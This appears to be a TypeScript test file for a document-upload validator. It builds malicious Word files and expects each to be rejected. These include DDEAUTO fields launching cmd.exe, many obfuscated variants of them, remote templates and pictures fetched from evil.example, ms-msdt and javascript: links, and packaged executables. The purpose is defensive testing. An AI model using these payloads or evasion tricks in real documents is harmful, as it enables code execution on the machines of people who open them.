import { compoundFile, docFile, officeFile, wordStream, zipFile } from "../harness/documents";
import { broken, joined, latin, program, type Row, under, wrong } from "./bad";
import { type Relation, relationships, wordFile, wordText } from "./word";

const starts = /holds or starts another program.*Please save it as a PDF/;
const carries = /carries other files inside.*Please save it as a PDF/;
const fetches = /loads parts of itself from another computer.*Please save it as a PDF/;
const link = /link that starts with “[\w-]+:”.*Please take that link out/;
const macros = /macros.*Please/;

const linking = (...all: Relation[]) => wordFile({ "word/_rels/document.xml.rels": relationships(...all) });
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (...runs: string[]) =>
  `<w:p>${mark("begin")}${runs.join("")}${mark("separate")}<w:r><w:t>x</w:t></w:r>${mark("end")}</w:p>`;
const command = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';

/** What Windows' packager makes of a file ([MS-OLEDS] 2.3.6 and the packager's own head): names, then bytes. */
function packaged(name: string, bytes: Buffer): Buffer {
  const path = latin(`C:\\Users\\a\\${name}\0`);
  const length = (of: Buffer) => Buffer.from(Uint32Array.of(of.length).buffer);
  const head = joined(latin(`\x02\0${name}\0`), path, latin("\0\0\x03\0"), length(path), path, length(bytes));
  return joined(length(joined(head, bytes)), head, bytes);
}

const native = "/\u0001Ole10Native";
const object = (streams: Record<string, number | Buffer>) =>
  wordFile({ "word/embeddings/oleObject1.bin": compoundFile(streams) });

const embedded = under("a.docx", [
  ["a DOCX with a packaged program", () => object({ [native]: packaged("x.exe", program()) }), wrong, carries],
  ["a DOCX with a packaged script", () => object({ [native]: packaged("a.js", latin("alert(1)")) }), wrong, carries],
  [
    "a DOCX with a large packaged program",
    () => object({ [native]: packaged("a.txt", Buffer.alloc(99_000)) }),
    wrong,
    carries,
  ],
  ["a DOCX with a program in an object", () => object({ "/CONTENTS": program() }), wrong, starts],
  ["a DOCX with a tiny program in an object", () => object({ "/CONTENTS": program().subarray(0, 100) }), wrong, starts],
  ["a DOCX with a package x.exe", () => wordFile({ "word/embeddings/x.exe": "x" }), wrong, starts],
  ["a DOCX with a program under a harmless name", () => wordFile({ "word/media/a.png": program() }), wrong, starts],
  [
    "a DOCX with a program of Linux",
    () => wordFile({ "word/embeddings/a.bin": latin("\x7fELF\x02\x01\x01") }),
    wrong,
    starts,
  ],
  ["a DOCX with a shortcut", () => wordFile({ "customXml/a.lnk": "x" }), wrong, starts],
  [
    "a DOCX whose object is a program by its relation",
    () => linking({ type: "package", target: "embeddings/setup.MSI", isOwn: true }),
    wrong,
    starts,
  ],
  [
    "a DOCX with a sheet of macros inside",
    () => wordFile({ "word/embeddings/a.xlsx": zipFile([{ name: "xl/vbaProject.bin", text: "x" }]) }),
    wrong,
    macros,
  ],
  ["a DOCX with an old sheet of macros inside", () => object({ "/_VBA_PROJECT_CUR/VBA/dir": 900 }), wrong, macros],
  [
    "a DOCX with a letter inside that holds a program",
    () => wordFile({ "word/embeddings/a.docx": wordFile({ "word/embeddings/x.exe": "x" }) }),
    wrong,
    starts,
  ],
  [
    "a DOCX whose object is the packager's",
    () => wordText('<w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" r:id="rId1"/></w:object>'),
    wrong,
    carries,
  ],
  [
    "a DOCX with a control",
    () => linking({ type: "control", target: "activeX/activeX1.xml", isOwn: true }),
    wrong,
    starts,
  ],
  ["a DOCX with a chapter of another kind", () => wordText('<w:altChunk r:id="rId1"/>'), wrong, carries],
  [
    "a DOCX with a chapter of another kind by its relation",
    () => linking({ type: "aFChunk", target: "afchunk.mht", isOwn: true }),
    wrong,
    carries,
  ],
]);

const dde = (name: string) => `${name} ${command}`;
const fields = under("a.docx", [
  ["a DOCX with DDEAUTO", () => wordText(field(run(` ${dde("DDEAUTO")} `))), wrong, starts],
  ["a DOCX with DDE in small letters", () => wordText(field(run(dde("dde")))), wrong, starts],
  ["a DOCX with DDEAUTO split over runs", () => wordText(field(run(" DD"), run("EAU"), run(dde("TO")))), wrong, starts],
  [
    "a DOCX with DDEAUTO split over paragraphs",
    () => wordText(`<w:p>${mark("begin")}${run("DDE")}</w:p><w:p>${run(dde("AUTO"))}${mark("end")}</w:p>`),
    wrong,
    starts,
  ],
  [
    "a DOCX with DDEAUTO under references with zeros",
    () => wordText(field(run("&#x0000044;&#00000068;EAUTO c:"))),
    wrong,
    starts,
  ],
  [
    "a DOCX with DDEAUTO in pieces under another prefix",
    () => wordText(`<w-x:fldChar w-x:fldCharType="begin"/>${run("DD")}${run("EAUTO c:")}${mark("end")}`),
    wrong,
    starts,
  ],
  [
    "a DOCX with DDEAUTO in an attribute under another prefix",
    () => wordText('<w-x:fldSimple w-x:instr="DDEAUTO c:"/>'),
    wrong,
    starts,
  ],
  [
    "a DOCX whose field begins in one namespace and ends in another",
    () =>
      wordText(`<w:fldChar y:fldCharType="end" w:fldCharType="begin"/>${run("DD")}${run("EAUTO c:")}${mark("end")}`),
    broken,
    /unsafe.*Please/,
  ],
  ...["&#32;", "DD"].map(
    (before): Row => [
      `a DOCX with a field name that another one computes after ${before}`,
      () => wordText(field(run(before), field(run('QUOTE "DDEAUTO"')), run("c:"))),
      wrong,
      starts,
    ],
  ),
  [
    "a DOCX with DDEAUTO in pieces whose beginning is a reference",
    () => wordText(`<w:p>${mark("b&#101;gin")}${run("DD")}${run("EAUTO c:")}${mark("end")}</w:p>`),
    wrong,
    starts,
  ],
  ["a DOCX with DDEAUTO under references", () => wordText(field(run(dde("&#x44;DE&#65;UTO")))), wrong, starts],
  ["a DOCX with DDEAUTO round a comment", () => wordText(field(run(dde("DDE<!-- > -->AUTO")))), wrong, starts],
  ["a DOCX with DDEAUTO as plain data", () => wordText(field(run(`<![CDATA[${dde("DDEAUTO")}]]>`))), wrong, starts],
  [
    "a DOCX with DDEAUTO round what looks like a field",
    () => wordText(field(run("DDE"), `<!--${mark("begin")}-->`, run(dde("AUTO")))),
    wrong,
    starts,
  ],
  [
    "a DOCX with DDEAUTO within another field",
    () => wordText(field(run("IF 1 = 1 "), field(run(dde("DDEAUTO"))), run(" x"))),
    wrong,
    starts,
  ],
  [
    "a DOCX with DDE whose name other fields make up",
    () => wordText(field(field(run("QUOTE 68 68 69")), run(command))),
    wrong,
    starts,
  ],
  ["a DOCX with a simple field of DDE", () => wordText(`<w:fldSimple w:instr='${dde(" DDEAUTO")}'/>`), wrong, starts],
  [
    "a DOCX with DDEAUTO under another prefix",
    () => wordText(field(run(dde("DDEAUTO"))).replaceAll("w:", "x:")),
    wrong,
    starts,
  ],
  [
    "a DOCX with DDEAUTO in its footer",
    () => wordFile({ "word/footer1.xml": `<w:ftr>${field(run(dde("DDEAUTO")))}</w:ftr>` }),
    wrong,
    starts,
  ],
  [
    "a DOCX with DDEAUTO in a footer that begins like a picture",
    () => wordFile({ "word/footer1.xml": `<!-- <svg > --><w:ftr>${field(run(dde("DDEAUTO")))}</w:ftr>` }),
    wrong,
    starts,
  ],
  [
    "a DOCX with DDEAUTO in UTF-16",
    () => wordFile({ "word/a.xml": Buffer.from(`\ufeff<w:ftr>${field(run(dde("DDEAUTO")))}</w:ftr>`, "utf16le") }),
    wrong,
    starts,
  ],
  [
    "a DOCX with DDEAUTO after much else",
    () =>
      wordFile(
        { "word/a.xml": `<w:p>${"<w:r/>".repeat(300_000)}${field(run("DDEA"), run(dde("UTO")))}</w:p>` },
        60_000,
      ),
    wrong,
    starts,
  ],
  [
    "a DOCX with a picture of the web by its field",
    () => wordText(field(run('INCLUDEPICTURE "http://evil.example/a.png" \\* MERGEFORMATINET'))),
    wrong,
    fetches,
  ],
  [
    "a DOCX with a picture whose address other fields make up",
    () => wordText(field(run('INCLUDEPICTURE "'), field(run("QUOTE 104 116 116 112")), run('"'))),
    wrong,
    fetches,
  ],
  ["a DOCX with text of a share", () => wordText(field(run('INCLUDETEXT "\\\\\\\\server\\\\a.docx"'))), wrong, fetches],
  [
    "a DOCX with a sheet of a share",
    () => wordText(field(run("LINK Excel.Sheet.12 \\\\\\\\server\\\\a.xlsx R1C1"))),
    wrong,
    fetches,
  ],
  ["a DOCX with a field that links to a tool", () => wordText(field(run('HYPERLINK "ms-msdt:/id x"'))), wrong, link],
]);

const templates = (xml: string) =>
  wordFile({ "word/_rels/settings.xml.rels": `<Relationships>${xml}</Relationships>` });
const template = 'Type="http://x/attachedTemplate"';
const remote = "http://evil.example/t.dotm";

const hidden = under("a.docx", [
  [
    "a DOCX whose footer begins after many blanks",
    () => wordFile({ "word/footer1.xml": `${" ".repeat(20_000)}<w:ftr>${field(run(dde("DDEAUTO")))}</w:ftr>` }, 40_000),
    wrong,
    starts,
  ],
  [
    "a DOCX with a template of the web whose address looks like a mode",
    () => templates(`<Relationship ${template} Target="${remote}?a TargetMode='Internal'" TargetMode="External"/>`),
    wrong,
    fetches,
  ],
  [
    "a DOCX with a template of the web whose address looks like a mode, the other way round",
    () => templates(`<Relationship ${template} Target='${remote}?a TargetMode="Internal"' TargetMode='External'/>`),
    wrong,
    fetches,
  ],
  [
    "a DOCX with a template of the web under references with zeros",
    () => templates(`<Relationship ${template} Target="${remote}" TargetMode="&#x0000045;xternal"/>`),
    wrong,
    fetches,
  ],
  [
    "a DOCX with a template of the web between comments",
    () =>
      templates(
        `<!-- <Relationship Type="x" Target="y" TargetMode="Internal" ' --><Relationship ${template} Target="${remote}" TargetMode="External"/><!-- ' > -->`,
      ),
    wrong,
    fetches,
  ],
  [
    "a DOCX with a template of the web under a prefix",
    () => templates(`<ä:Relationship ${template} Target="${remote}" TargetMode="External"/>`),
    wrong,
    fetches,
  ],
]);

const links = under("a.docx", [
  ["a DOCX with a picture of the web", () => linking(["image", "https://evil.example/leaf.png"]), wrong, fetches],
  [
    "a DOCX with a drawn picture of the web",
    () => wordText('<v:imagedata src="http://evil.example/a.png"/>'),
    wrong,
    fetches,
  ],
  [
    "a DOCX with a link to a tool of Windows",
    () => linking(["hyperlink", "ms-msdt:/id PCWDiagnostic /skip force"]),
    wrong,
    link,
  ],
  ["a DOCX with a link to a tool behind blanks", () => linking(["hyperlink", " &#10;MS-MSDT:/id x"]), wrong, link],
  [
    "a DOCX with a link that searches a share",
    () => linking(["hyperlink", "search-ms:query=a&amp;crumb=location:x"]),
    wrong,
    link,
  ],
  ["a DOCX with a link to a script", () => linking(["hyperlink", "javascript:alert(1)"]), wrong, link],
  [
    "a DOCX with a link to a document to be edited",
    () => linking(["hyperlink", "ms-word:ofe|u|https://evil.example/a.dotm"]),
    wrong,
    link,
  ],
  [
    "a DOCX with a link to a program of a share",
    () => linking(["hyperlink", "\\\\server\\share\\setup.exe"]),
    wrong,
    starts,
  ],
  [
    "a DOCX with a link to a program and a place in it",
    () => linking(["hyperlink", "file:///C:/Windows/System32/cmd.exe#a"]),
    wrong,
    starts,
  ],
  [
    "a DOCX with a link to a program beside it",
    () => linking(["hyperlink", "..\\..\\Windows\\System32\\cmd.exe"]),
    wrong,
    starts,
  ],
  ["a DOCX with an object of a tool", () => linking(["oleObject", "ms-msdt:/id x"]), wrong, fetches],
]);

/** The text's stream of an old document with this field in it, in one byte for each letter or in two. */
const withField = (code: string, encoding: "latin1" | "utf16le") => {
  const stream = wordStream();
  stream.write(`\x13${code}\x14x\x15`, 2048, encoding);
  return docFile({ "/WordDocument": stream });
};

/** An old document made from this template ([MS-DOC] 2.5.6, 2.2.4). */
function ofTemplate(path: string): Buffer {
  const text = Buffer.from(path, "utf16le");
  const names = joined(latin("\xff\xff\x12\0\0\0\0\0"), Buffer.from(Uint16Array.of(path.length).buffer), text);
  const stream = wordStream();
  stream.writeUInt32LE(512, 0x19a);
  stream.writeUInt32LE(names.length, 0x19e);
  return docFile({ "/WordDocument": stream, "/1Table": joined(Buffer.alloc(512), names, Buffer.alloc(4096)) });
}

const old = under("a.doc", [
  ["a DOC with DDEAUTO", () => withField(dde(" DDEAUTO"), "latin1"), wrong, starts],
  ["a DOC with DDEAUTO in two bytes for each letter", () => withField(dde(" DDEAUTO"), "utf16le"), wrong, starts],
  [
    "a DOC with a picture of the web",
    () => withField('INCLUDEPICTURE "http://evil.example/a"', "latin1"),
    wrong,
    fetches,
  ],
  ["a DOC with a link to a tool", () => withField('HYPERLINK "ms-msdt:/id x"', "utf16le"), wrong, link],
  [
    "a DOC with a picture of the web behind a letter that ends like a field",
    () => withField(' INCLUDEPICTURE \\c "क" "http://evil.example/a"', "utf16le"),
    wrong,
    fetches,
  ],
  [
    "a DOC with DDEAUTO behind many blanks",
    () => withField(`${" ".repeat(4_200)}DDEAUTO c:`, "latin1"),
    broken,
    /unsafe.*Please/,
  ],
  [
    "a DOC with a picture of the web behind many blanks",
    () => withField(`INCLUDEPICTURE ${" ".repeat(4_200)}"http://evil.example/a"`, "latin1"),
    wrong,
    fetches,
  ],
  ["a DOC with a control", () => docFile({ "/ObjectPool/_1/\u0003OCXNAME": 100 }), wrong, starts],
  ["a DOC with a template of the web", () => ofTemplate("https://evil.example/a.dotm"), wrong, fetches],
  ["a DOC with a template of a share", () => ofTemplate("\\\\server\\share\\a.dot"), wrong, fetches],
  [
    "a DOC with a packaged program",
    () => docFile({ [`/ObjectPool/_1${native}`]: packaged("x.exe", program()) }),
    wrong,
    carries,
  ],
  ["a DOC with a program in an object", () => docFile({ "/ObjectPool/_1/CONTENTS": program() }), wrong, starts],
]);

const nested = under("a.docx", [
  [
    "a DOCX of letters within letters",
    () => [1, 2, 3, 4].reduce((inner) => wordFile({ "word/a.docx": inner }), officeFile("word")),
    "UNPROCESSABLE_CONTENT",
    /unsafe.*Please/,
  ],
]);

/** Word documents that run, fetch or carry something. */
export const badWordActive = [...embedded, ...fields, ...hidden, ...links, ...old, ...nested];
